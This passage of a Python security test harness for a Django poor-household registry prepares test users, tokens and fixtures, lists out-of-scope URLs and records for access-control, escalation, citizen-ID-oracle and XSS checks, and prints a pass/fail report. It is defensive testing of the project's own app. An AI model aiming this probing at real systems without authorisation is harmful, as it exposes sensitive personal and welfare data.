        return parts.scheme in ("http", "https") and (parts.hostname or "") in ("127.0.0.1", "localhost")
    return location.startswith("/") and not location.startswith(("//", "/\\"))


def strip_tokens(html: str) -> str:
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", html)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def step(message: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {message}", flush=True)


# --- what runs inside Django (manage.py shell) ------------------------------------------------------------

SETUP_CODE = r"""
import json, os, datetime
from django.apps import apps
from django.core.files.base import ContentFile
from django.db.models import Count, Exists, OuterRef, Q
from rest_framework.authtoken.models import Token
from accounts.models import Role, User
from accounts.services import user_create
from households.models import (LAST_LEGACY_DAY, REFORM_DATE, AdministrativeUnit, Household, HouseholdReview,
    ImportJob, Member, ReviewRound, UnitLevel)
from households.selectors import visible_unit_ids, units_visible_to, review_list, round_list
try:
    from programmes.selectors import plan_list
except ImportError:
    from programmes.plan_selectors import plan_list
Plan = apps.get_model("programmes", "Plan")
ReportJob = apps.get_model("reports", "ReportJob")
PASSWORD = os.environ["TOUR_PASSWORD"]
Decision = HouseholdReview._meta.get_field("decision").related_model

def unit(name, on):
    return AdministrativeUnit.objects.valid_on(on).exclude(level=UnitLevel.VILLAGE).get(name=name)

def make(username, role, units):
    user = User.objects.filter(username=username).first()
    return user or user_create(username=username, password=PASSWORD, role=role, units=units,
                               full_name="Tour " + username)

def token(user):
    return Token.objects.get_or_create(user=user)[0].key

van_lang = unit("Xã Văn Lang", REFORM_DATE)
users = {
    "province": make("tour.province", Role.PROVINCE_OFFICER, [unit("Tỉnh Bắc Kạn", LAST_LEGACY_DAY)]),
    "province_all": User.objects.get(username="tinh.thainguyen"),
    "district": User.objects.get(username="huyen.nari"),
    "commune": User.objects.get(username="xa.luongthuong"),
    "commune_now": User.objects.get(username="xa.vanlang"),
    "chair": User.objects.get(username="chutich.vanlang"),
    "viewer": User.objects.get(username="xem.babe"),
    "viewer_vi": make("tour.viewer.vi", Role.VIEWER, [unit("Huyện Ba Bể", LAST_LEGACY_DAY)]),
    "api": make("tour.api", Role.API_CLIENT, [van_lang]),
    "throttle": make("tour.throttle", Role.API_CLIENT, [van_lang]),
    "throttle2": make("tour.throttle2", Role.API_CLIENT, [van_lang]),
    "idle": make("tour.idle", Role.VIEWER, [van_lang]),
    "keepalive": make("tour.keepalive", Role.VIEWER, [van_lang]),
    "redirect": make("tour.redirect", Role.VIEWER, [van_lang]),
    "logout_next": make("tour.logout", Role.VIEWER, [van_lang]),
    "cookies": make("tour.cookies", Role.VIEWER, [van_lang]),
}
# A reused database starts clean: no lockout, throttle or lookup counts left from an earlier run.
from axes.models import AccessAttempt
from django.core.cache import cache
AccessAttempt.objects.all().delete()
cache.clear()
for i in range(1, 7):
    users[f"victim{i}"] = make(f"tour.victim{i}", Role.COMMUNE_OFFICER, [van_lang])
out = {"users": {}}
for n, (key, user) in enumerate(users.items()):
    out["users"][key] = {"username": user.username, "pk": user.pk, "ip": f"203.0.113.{n + 1}"}
for key in ("api", "throttle", "throttle2", "victim1", "commune_now", "viewer"):
    out["users"][key]["token"] = token(users[key])

officer = users["commune_now"]
# A finished report job and an import job of the commune officer: nobody else's to see.
import_job = ImportJob.objects.create(user=officer, commune=van_lang, file_name="danh-sach.xlsx")
report_job = ReportJob(user=officer, kind="lists", query={"unit": van_lang.pk, "year": 2025}, output="xlsx",
                       status="done")
report_job.file.save("danh-sach-tour.xlsx", ContentFile(b"PK\x03\x04 tour"), save=False)
report_job.file_name = "danh-sach-tour.xlsx"
report_job.save()

def first(qs):
    return qs.order_by("pk").first()

def outside_of(candidates, visible, tries=200):
    # The first candidate (by pk) the user's own selector does not return. The candidates are narrowed cheaply
    # first: NOT IN over a subquery of 400,000 reviews keeps PostgreSQL busy for many minutes.
    for obj in candidates.order_by("pk")[:tries]:
        if not visible.filter(pk=obj.pk).exists():
            return obj
    return None

def scope_for(role, user):
    ids = sorted(visible_unit_ids(user))
    households = Household.objects.filter(village__in=ids)
    outside_h = outside_of(Household.objects.exclude(village_id__in=ids), households)
    inside_h = first(households)
    reviews = review_list(user=user)
    approved = HouseholdReview.objects.filter(state="approved", status__in=["poor", "near_poor"])
    outside_r = outside_of(approved.exclude(village_id__in=ids).exclude(commune_id__in=ids), reviews)
    inside_r = first(reviews)
    rounds = round_list(user=user)
    outside_round = outside_of(
        ReviewRound.objects.exclude(commune_id__in=ids).filter(Exists(Decision.objects.filter(round=OuterRef("pk")))),
        rounds)
    inside_round = first(rounds)
    communes = units_visible_to(user).filter(level=UnitLevel.COMMUNE)
    outside_c = outside_of(AdministrativeUnit.objects.filter(level=UnitLevel.COMMUNE).exclude(pk__in=ids)
                           .filter(Exists(Household.objects.filter(commune=OuterRef("pk")))), communes)
    inside_c = first(communes)
    plans = plan_list(user=user)
    outside_p = outside_of(Plan.objects.exclude(unit_id__in=ids), plans)
    inside_p = first(plans)
    api = role == "api"
    inside, outside = [], []
    if api:
        inside += [("household", f"/api/v1/households/{inside_h.pk}/")]
        if inside_r:
            inside += [("review", f"/api/v1/reviews/{inside_r.pk}/")]
        outside += [
            ("household", "GET", f"/api/v1/households/{outside_h.pk}/"),
            ("review", "GET", f"/api/v1/reviews/{outside_r.pk}/"),
            ("unit", "GET", f"/api/v1/units/{outside_c.pk}/"),
            ("statistics", "GET", f"/api/v1/statistics/?year=2025&unit={outside_c.code}"),
            ("import job of another user", "GET", f"/api/v1/imports/{import_job.pk}/"),
            ("import job commit", "POST", f"/api/v1/imports/{import_job.pk}/commit/"),
        ]
        if outside_p:
            outside += [("plan", "GET", f"/api/v1/plans/{outside_p.pk}/"),
                        ("plan targets", "GET", f"/api/v1/plans/{outside_p.pk}/targets/"),
                        ("plan progress", "GET", f"/api/v1/plans/{outside_p.pk}/progress/")]
    else:
        inside += [("household", f"/households/{inside_h.pk}/")]
        if inside_r:
            inside += [("review", f"/reviews/{inside_r.pk}/")]
        if inside_round:
            inside += [("round", f"/reviews/rounds/{inside_round.pk}/")]
        if inside_p:
            inside += [("plan", f"/plans/{inside_p.pk}/")]
        decision = outside_round.decisions.order_by("pk").first()
        outside += [
            ("household", "GET", f"/households/{outside_h.pk}/"),
            ("household edit", "GET", f"/households/{outside_h.pk}/edit/"),
            ("household edit", "POST", f"/households/{outside_h.pk}/edit/"),
            ("escape request PDF (Form 04)", "GET", f"/households/{outside_h.pk}/escape-request.pdf"),
            ("review", "GET", f"/reviews/{outside_r.pk}/"),
            ("review edit", "GET", f"/reviews/{outside_r.pk}/edit/"),
            ("certificate PDF (Form 03)", "GET", f"/reviews/{outside_r.pk}/certificate.pdf"),
            ("round", "GET", f"/reviews/rounds/{outside_round.pk}/"),
            ("round export CSV", "GET", f"/reviews/rounds/{outside_round.pk}/export.csv"),
            ("round export XLSX", "GET", f"/reviews/rounds/{outside_round.pk}/export.xlsx"),
            ("decision PDF (Form 02)", "GET", f"/reviews/rounds/{outside_round.pk}/decisions/{decision.pk}.pdf"),
            ("new review in round", "GET", f"/reviews/rounds/{outside_round.pk}/new/"),
            ("round step submit", "POST", f"/reviews/rounds/{outside_round.pk}/steps/submit/"),
            ("commune villages", "GET", f"/units/{outside_c.pk}/villages/"),
            ("API household", "GET", f"/api/v1/households/{outside_h.pk}/"),
            ("API review", "GET", f"/api/v1/reviews/{outside_r.pk}/"),
            ("API statistics", "GET", f"/api/v1/statistics/?year=2025&unit={outside_c.code}"),
        ]
        if role != "commune_now":
            outside += [
                ("import job of another user", "GET", f"/households/import/{import_job.pk}/"),
                ("import job confirm", "POST", f"/households/import/{import_job.pk}/confirm/"),
                ("import job rerun", "POST", f"/households/import/{import_job.pk}/rerun/"),
                ("report job of another user", "GET", f"/reports/jobs/{report_job.pk}/"),
                ("report job download", "GET", f"/reports/jobs/{report_job.pk}/download/"),
                ("report job rerun", "POST", f"/reports/jobs/{report_job.pk}/rerun/"),
            ]
        outside += [
            ("list report XLSX", "GET", f"/reports/lists/?unit={outside_h.commune_id}&year=2025&format=xlsx",
             [outside_h.code]),
            ("Circular 07 report PDF", "GET", f"/reports/circular07/?unit={outside_h.commune_id}&year=2025&format=pdf",
             []),
        ]
        if outside_p:
            goal = outside_p.goals.order_by("pk").first()
            task = outside_p.tasks.order_by("pk").first()
            year = outside_p.year_from
            outside += [
                ("plan", "GET", f"/plans/{outside_p.pk}/"),
                ("plan edit", "POST", f"/plans/{outside_p.pk}/edit/"),
                ("plan target export", "GET", f"/plans/{outside_p.pk}/targets-{year}.csv"),
                ("plan progress report", "GET", f"/reports/progress/?plan={outside_p.pk}&year={year}&format=xlsx",
                 [outside_p.decision_number, outside_p.title]),
                ("plan report", "GET", f"/reports/plan/?plan={outside_p.pk}",
                 [outside_p.decision_number, outside_p.title]),
                ("API plan", "GET", f"/api/v1/plans/{outside_p.pk}/"),
            ]
            if goal:
                outside += [("plan goal actual", "POST", f"/plans/{outside_p.pk}/goals/{goal.pk}/")]
            if task:
                outside += [("plan task edit", "POST", f"/plans/{outside_p.pk}/tasks/{task.pk}/")]
    lists = []
    prefix = "/api/v1" if api else ""
    if api:
        lists += [f"/api/v1/households/?unit={outside_c.code}&page_size=1000",
                  f"/api/v1/reviews/?unit={outside_c.code}&page_size=1000",
                  f"/api/v1/households/?code={outside_h.code}", f"/api/v1/households/?code={outside_h.code}&format=csv"]
    else:
        lists += [f"/households/?commune={outside_h.commune_id}", f"/households/?q={outside_h.code}",
                  f"/households/export.csv?commune={outside_h.commune_id}",
                  f"/households/export.csv?q={outside_h.code}",
                  f"/reports/lists/?unit={outside_h.commune_id}&year=2025",
                  f"/dashboard/?unit={outside_h.commune_id}"]
    return {"inside": inside, "outside": outside, "lists": lists,
            "outside_household": {"pk": outside_h.pk, "code": outside_h.code, "commune": outside_h.commune_id}}

roles = ["province", "district", "commune", "commune_now", "viewer", "api"]
out["scope"] = {role: scope_for(role, users[role]) for role in roles}

# Every page class and API list, as an anonymous visitor would try them.
h = first(Household.objects.all())
r = first(HouseholdReview.objects.filter(state="approved", status="poor"))
rd = r.round
d = rd.decisions.order_by("pk").first()
p = first(Plan.objects.all())
c = van_lang
out["pages"] = [
    "/units/", f"/units/{c.pk}/villages/", "/units/carry-over/", "/households/", "/households/new/",
    f"/households/{h.pk}/", f"/households/{h.pk}/edit/", f"/households/{h.pk}/escape-request.pdf",
    "/households/export.csv", "/households/export.xlsx", "/households/import/", "/households/import/template.xlsx",
    f"/households/import/{import_job.pk}/", "/reviews/", "/reviews/queue/", f"/reviews/rounds/{rd.pk}/",
    f"/reviews/rounds/{rd.pk}/new/", f"/reviews/rounds/{rd.pk}/export.csv", f"/reviews/rounds/{rd.pk}/export.xlsx",
    f"/reviews/rounds/{rd.pk}/decisions/{d.pk}.pdf", f"/reviews/{r.pk}/", f"/reviews/{r.pk}/edit/",
    f"/reviews/{r.pk}/certificate.pdf", "/plans/", "/plans/new/", f"/plans/{p.pk}/", f"/plans/{p.pk}/edit/",
    f"/plans/{p.pk}/targets-{p.year_from}.csv", f"/plans/{p.pk}/import/", "/dashboard/", "/residents/",
    "/residents/import/", "/reports/circular07/", f"/reports/lists/?unit={c.pk}&year=2025",
    f"/reports/jobs/{report_job.pk}/", f"/reports/jobs/{report_job.pk}/download/",
]
out["api_paths"] = [
    "/api/v1/units/", "/api/v1/standards/", "/api/v1/households/", "/api/v1/reviews/", "/api/v1/imports/",
    "/api/v1/plans/", "/api/v1/projects/", f"/api/v1/statistics/?year=2025&unit={c.code}",
    f"/api/v1/households/{h.pk}/", f"/api/v1/reviews/{r.pk}/", f"/api/v1/plans/{p.pk}/progress/",
    "/api/v1/households/?format=csv",
]
out["secret_words"] = [h.code, h.head_name, r.household.code]

# Escalation.
viewer = users["viewer"]
viewer_ids = visible_unit_ids(viewer)
vh = first(Household.objects.filter(village__in=viewer_ids))
now_ids = visible_unit_ids(officer)
own_h = first(Household.objects.filter(commune=van_lang))
other_commune = first(AdministrativeUnit.objects.filter(level=UnitLevel.COMMUNE, valid_to__isnull=True)
                      .exclude(pk__in=now_ids))
outside_village = first(AdministrativeUnit.objects.filter(level=UnitLevel.VILLAGE, valid_to__isnull=True)
                        .exclude(pk__in=now_ids))
legacy_ids = visible_unit_ids(users["commune"])
legacy_reads = first(Household.objects.filter(village__in=legacy_ids, village__valid_to__isnull=True))
province = users["province"]
province_ids = visible_unit_ids(province)
foreign_plan = first(plan_list(user=province).exclude(unit__in=province_ids))
own_round = first(round_list(user=officer).filter(commune=van_lang))
outside_review = first(HouseholdReview.objects.exclude(village__in=now_ids).filter(state="posted"))
other_commune_pk = other_commune.pk
ResidentCount = apps.get_model("reports", "ResidentCount")

def resident_counts():
    rows = ResidentCount.objects.filter(year=2026, commune_id__in=[van_lang.pk, other_commune_pk])
    return sorted([r.commune_id, r.households, r.people] for r in rows)
waiting = first(round_list(user=users["chair"]).filter(commune=van_lang, reviews__state="submitted").distinct())
out["escalation"] = {
    "viewer_household": {"pk": vh.pk},
    "viewer_commune": vh.commune_id,
    "viewer_round": first(round_list(user=viewer)).pk,
    "other_commune": other_commune.pk,
    "rounds_in_other_commune": ReviewRound.objects.filter(commune=other_commune).count(),
    "own_round": own_round.pk,
    "own_household": own_h.pk,
    "outside_village": outside_village.pk,
    "legacy_reads_household": legacy_reads.pk if legacy_reads else None,
    "own_province": unit("Tỉnh Bắc Kạn", LAST_LEGACY_DAY).pk,
    "approvable_round": waiting.pk if waiting else None,
    "own_household_commune": own_h.commune_id,
    "outside_household": first(Household.objects.exclude(village__in=now_ids)).pk,
    "outside_review": outside_review.pk,
    "outside_review_state": outside_review.state,
    "read_only_commune": van_lang.pk,
    "resident_counts": resident_counts(),
    "foreign_plan": None if foreign_plan is None else {
        "pk": foreign_plan.pk, "unit": foreign_plan.unit.name, "unit_pk": foreign_plan.unit_id,
        "goals": foreign_plan.goals.count(), "tasks": foreign_plan.tasks.count(), "fields": {},
        "year": foreign_plan.year_from,
        "goal": getattr(first(foreign_plan.goals.all()), "pk", None),
        "task": getattr(first(foreign_plan.tasks.all()), "pk", None),
        "goal_actual": str(getattr(first(foreign_plan.goals.all()), "actual", None)),
        "task_notes": getattr(first(foreign_plan.tasks.all()), "progress_notes", None),
    },
}

# XSS: a household of Văn Lang with an approved poor review, shown in the list report of its year.
approved_vl = HouseholdReview.objects.filter(commune=van_lang, state="approved", status="poor",
                                             household__members__relation="head").order_by("-round__year", "pk")
x = approved_vl.select_related("household", "round").first()
out["xss"] = {"household": x.household_id, "code": x.household.code, "review": x.pk, "round": x.round_id,
              "year": x.round.year, "commune": van_lang.pk, "commune_code": van_lang.code}
quote_h = first(Household.objects.filter(commune=van_lang).exclude(pk=x.household_id)
                .filter(members__relation="head").distinct())
out["quote_household"] = quote_h.pk

# Bounds.
out["bounds"] = {"commune": van_lang.pk, "commune_code": van_lang.code, "round": own_round.pk,
                 "plan": first(plan_list(user=officer)).pk if first(plan_list(user=officer)) else p.pk}

# Uploads: a round of Văn Lang and one of its villages for the meeting's minutes.
village = first(AdministrativeUnit.objects.filter(parent=van_lang, level=UnitLevel.VILLAGE, valid_to__isnull=True))
# The meeting step needs a review that is editable (returned by the chair): a commune of the 2026 round that
# waits for its chair, with a tour officer and chair of its own, the chair returning one review.
from households.services import review_return
returned = first(HouseholdReview.objects.filter(state="returned", round__year=2026, returned_reason__startswith="Tour"))
if returned is None:
    waiting_rounds = ReviewRound.objects.filter(year=2026, reviews__state="submitted").distinct()
    meeting_round = first(waiting_rounds.exclude(commune=van_lang)) or first(waiting_rounds)
    returned = first(meeting_round.reviews.filter(state="submitted"))
    meeting_chair = make("tour.meeting.chair", Role.COMMUNE_CHAIR, [meeting_round.commune])
    review_return(user=meeting_chair, reviews=[returned], reason="Tour: returned for the minutes test")
make("tour.meeting", Role.COMMUNE_OFFICER, [returned.round.commune])
users["meeting"] = User.objects.get(username="tour.meeting")
out["users"]["meeting"] = {"username": "tour.meeting", "pk": users["meeting"].pk, "ip": "203.0.113.250"}
out["uploads"] = {"commune": van_lang.pk, "meeting_round": returned.round_id, "meeting_village": returned.village_id}

# The citizen-ID oracle: people registered outside Văn Lang's officer's area.
# The demo gives nobody a citizen ID: the province officer registers the heads of four households of other
# communes with one (household_update, as the household form does), unless an earlier run did.
from households.services import household_update
from households.services.registry import MEMBER_FIELDS
import random
province_officer = users["province_all"]
registered = Member.objects.exclude(household__village__in=now_ids).exclude(national_id="")
if registered.count() < 4:
    rng = random.Random()
    candidates = (Household.objects.exclude(village__in=now_ids).filter(village__valid_to__isnull=True)
                  .filter(village__in=visible_unit_ids(province_officer)).order_by("pk")[:200])
    for household in candidates:
        if registered.count() >= 4:
            break
        members = []
        for m in household.members.order_by("pk"):
            row = {"id": m.pk, **{f: getattr(m, f) for f in MEMBER_FIELDS}}
            if m.relation == "head" and not m.national_id:
                digit = (m.date_of_birth.year // 100 - 19) * 2 + (1 if m.sex == "female" else 0)
                row["national_id"] = f"006{digit}{m.date_of_birth.year % 100:02d}{rng.randrange(10**6):06d}"
            members.append(row)
        data = {"code": household.code, "address": household.address, "phone": household.phone,
                "head_ethnicity": household.head_ethnicity, "has_meritorious_person": household.has_meritorious_person,
                "status": household.status, "status_date": household.status_date}
        household_update(user=province_officer, household=household, expected_version=household.version,
                         village=household.village, data=data, members=members)
foreign = []
for m in (registered.select_related("household__commune", "household__village").order_by("pk")[:4]):
    foreign.append({"national_id": m.national_id, "sex": m.sex, "dob": m.date_of_birth.strftime("%d/%m/%Y"),
                    "dob_iso": m.date_of_birth.isoformat(), "name": m.full_name, "household": m.household.code,
                    "commune": m.household.commune.name, "village": m.household.village.name,
                    "members": m.household.members.count()})
guess_household = first(Household.objects.exclude(village__in=now_ids).exclude(members__national_id__gt="")
                        .filter(members__isnull=False).distinct())
guess_member = guess_household.members.order_by("pk").first()
guess = {"household": guess_household.code, "name": guess_member.full_name, "sex": guess_member.sex,
         "dob": guess_member.date_of_birth.strftime("%d/%m/%Y"), "relation": guess_member.relation,
         "members": guess_household.members.count()}
out["cccd"] = {"commune": van_lang.pk, "village": village.pk, "village_name": village.name, "foreign": foreign,
               "guess": guess}

# Downloads.
cert = first(review_list(user=officer).filter(state="approved", status__in=["poor", "near_poor"]))
out["downloads"] = {
    "certificate": f"/reviews/{cert.pk}/certificate.pdf",
    "report_job": f"/reports/jobs/{report_job.pk}/download/",
    "api_household": first(Household.objects.filter(village__in=visible_unit_ids(users["api"]))).pk,
    "own_import_job": import_job.pk,
    "media_path": report_job.file.name,
}
print("TOUR_JSON:" + json.dumps(out, default=str))
"""

POSTCHECK_CODE = r"""
import json, os
from pathlib import Path
from django.apps import apps
from django.conf import settings
from households.models import ReviewRound
Plan = apps.get_model("programmes", "Plan")
world = json.loads(open(os.environ["TOUR_WORLD"]).read())
e = world["escalation"]
out = {"rounds_in_other_commune": ReviewRound.objects.filter(commune_id=e["other_commune"]).count()}
from households.models import Household, HouseholdReview
out["own_household_commune"] = Household.objects.get(pk=e["own_household"]).commune_id
out["outside_review_state"] = HouseholdReview.objects.get(pk=e["outside_review"]).state
ResidentCount = apps.get_model("reports", "ResidentCount")
out["resident_counts"] = sorted([r.commune_id, r.households, r.people] for r in ResidentCount.objects.filter(
    year=2026, commune_id__in=[e["read_only_commune"], e["other_commune"]]))
if e["foreign_plan"]:
    plan = Plan.objects.get(pk=e["foreign_plan"]["pk"])
    out["foreign_plan_unit"] = plan.unit_id
    out["foreign_plan_goals"] = plan.goals.count()
    out["foreign_plan_tasks"] = plan.tasks.count()
    goal, task = plan.goals.order_by("pk").first(), plan.tasks.order_by("pk").first()
    out["foreign_plan_goal_actual"] = str(getattr(goal, "actual", None))
    out["foreign_plan_task_notes"] = getattr(task, "progress_notes", None)
media = Path(settings.MEDIA_ROOT)
out["minutes_files"] = sum(1 for f in media.rglob("*") if f.is_file() and f.suffix.lower() in (".html", ".svg")
                           or (f.is_file() and "meeting-minutes" in str(f) and f.read_bytes()[:5] != b"%PDF-"
                               and f.read_bytes()[:3] != b"\xff\xd8\xff" and f.read_bytes()[:4] != b"\x89PNG"))
print("TOUR_JSON:" + json.dumps(out))
"""


# --- report -----------------------------------------------------------------------------------------------


def print_report(tour: Tour, seconds: float) -> int:
    rows = tour.results.rows
    print("\n")
    widths = {"id": 14, "category": 10, "sent": 70, "expected": 34, "observed": 44, "verdict": 5, "severity": 7}
    header = " | ".join(name.upper().ljust(width) for name, width in widths.items())
    print(header)
    print("-" * len(header))
    for row in rows:
        cells = {name: textwrap.wrap(str(getattr(row, name)), width) or [""] for name, width in widths.items()}
        height = max(len(v) for v in cells.values())
        for line in range(height):
            print(" | ".join((cells[n][line] if line < len(cells[n]) else "").ljust(w) for n, w in widths.items()))
    fails = [r for r in rows if r.verdict == "FAIL"]
    if fails or any(r.verdict == "N/A" for r in rows):
        print("\nEVIDENCE OF EVERY FAIL (and why an attack could not be tried)")
        for row in [r for r in rows if r.verdict != "PASS"]:
            print(f"\n{row.id} [{row.severity}] {row.sent}\n  expected: {row.expected}\n  observed: {row.observed}")
            print(textwrap.indent(textwrap.fill(row.evidence[:1500], 116), "  "))
    if tour.deploy_check[1]:
        print(
            f"\nmanage.py check --deploy (exit {tour.deploy_check[0]}):\n{textwrap.indent(tour.deploy_check[1], '  ')}"
        )
    tried = len(rows)
    passed = sum(r.verdict == "PASS" for r in rows)
    na = sum(r.verdict == "N/A" for r in rows)
    by_severity = Counter(r.severity for r in fails)
    print("\nSUMMARY")
    print(f"  attacks tried: {tried}   passed: {passed}   failed: {len(fails)}   not applicable: {na}")
    print(
        f"  failed by severity: high {by_severity.get('high', 0)}, medium {by_severity.get('medium', 0)}, "
        f"low {by_severity.get('low', 0)}"
    )
    by_category = Counter(r.category for r in rows)
    failed_category = Counter(r.category for r in fails)
    print(
        "  by category: "
        + ", ".join(f"{c} {by_category[c] - failed_category[c]}/{by_category[c]}" for c in by_category)
    )
    print(f"  HTTP answers: {tour.answers}; 5xx answers: {len(tour.server_errors)}")
    print(
        f"  time: {seconds / 60:.1f} min (set-up {tour.timings.get('load', 0) / 60:.1f} min load, attacks "
        f"{tour.timings.get('attacks', 0) / 60:.1f} min)"
    )
    serious = by_severity.get("high", 0) + by_severity.get("medium", 0)
    print("  target (no defect of medium severity or more): " + ("MET" if not serious else "NOT MET"))
    return 1 if serious else 0


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--keep", action="store_true", help="keep the database and the temporary folder")
    parser.add_argument("--database", help="reuse this database (left by --keep); no set-up, not dropped")
    parser.add_argument("--scale", type=float, default=None, help="load_demo --scale (default: the demo's own)")
    parser.add_argument("--only", nargs="*", help="run only these attack groups (method names)")
    parser.add_argument("--json", help="write the rows to this JSON file")
    args = parser.parse_args()
    os.chdir(ROOT)
    started = time.monotonic()
    tour = Tour(args)
    tour.post_checks = []
    code = 2
    try:
        tour.set_up()
        (tour.tmp / "world.json").write_text(json.dumps(tour.world))
        os.environ["TOUR_WORLD"] = str(tour.tmp / "world.json")
        tour.serve()
        step("attacks (. pass, F fail, n not applicable)")
        tour.run()
        tour.after()
        code = print_report(tour, time.monotonic() - started)
        if args.json:
            Path(args.json).write_text(json.dumps([asdict(r) for r in tour.results.rows], ensure_ascii=False, indent=1))
    finally:
        tour.clean_up()
    print(f"total run time: {(time.monotonic() - started) / 60:.1f} min")
    return code


if __name__ == "__main__":
    sys.exit(main())
